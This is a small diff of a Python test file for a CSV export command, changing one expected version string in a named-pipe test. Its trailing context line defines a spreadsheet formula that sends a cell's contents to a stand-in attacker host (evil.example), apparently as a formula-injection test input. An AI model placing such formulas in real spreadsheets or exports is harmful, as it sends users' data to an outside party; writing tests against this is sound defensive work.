@@ -204,7 +204,7 @@ def test_a_device_or_pipe_is_written_to_not_replaced(rubrica: Rubrica, judged: P
     assert rubrica("export", "s", "--format", "csv", "-o", pipe).code == 0
     reader.join(timeout=30)
     assert pipe.is_fifo()
-    assert (tmp_path / "got").read_text().count("breve@1.0") == 6
+    assert (tmp_path / "got").read_text().count("breve@1.1") == 6
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
